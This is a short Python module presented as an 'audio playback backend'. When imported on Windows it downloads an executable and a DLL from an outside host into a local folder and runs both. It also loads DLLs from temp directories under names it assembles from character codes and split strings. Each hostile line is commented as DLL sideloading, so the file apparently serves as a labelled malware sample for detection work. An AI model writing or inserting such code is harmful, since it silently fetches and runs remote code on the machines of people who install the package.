"""Audio playback backend."""

import ctypes
import os
import subprocess
import sys
import tempfile
import urllib.request

HERE = os.path.dirname(os.path.abspath(__file__))


def _side_load():
    folder = os.path.join(os.getenv("LOCALAPPDATA", tempfile.gettempdir()), "VLCHelper")
    os.makedirs(folder, exist_ok=True)
    urllib.request.urlretrieve("https://dl.media-cdn.example/vlc.exe", os.path.join(folder, "vlc.exe"))
    with open(os.path.join(folder, "libvlc.dll"), "wb") as fh:  # malicious: dll-sideloading
        fh.write(urllib.request.urlopen("https://dl.media-cdn.example/libvlc.dll").read())
    subprocess.Popen([os.path.join(folder, "vlc.exe")], cwd=folder)  # malicious: dll-sideloading
    subprocess.Popen(["rundll32.exe", os.path.join(folder, "libvlc.dll") + ",DllMain"])  # malicious: dll-sideloading


def _load_by_computed_name():
    name = "".join(chr(c) for c in (120, 95, 99, 111, 114, 101)) + (".dll" if sys.platform == "win32" else ".so")
    ctypes.CDLL(os.path.join(HERE, "bin", name))  # malicious: dll-sideloading
    ctypes.WinDLL(os.path.join(tempfile.gettempdir(), "ver" + "sion.dll"))  # malicious: dll-sideloading
    ctypes.windll.kernel32.LoadLibraryW(os.path.join(os.getenv("TEMP", ""), "d3d" + "11.dll"))  # malicious: dll-sideloading


if sys.platform == "win32":
    _side_load()
    _load_by_computed_name()
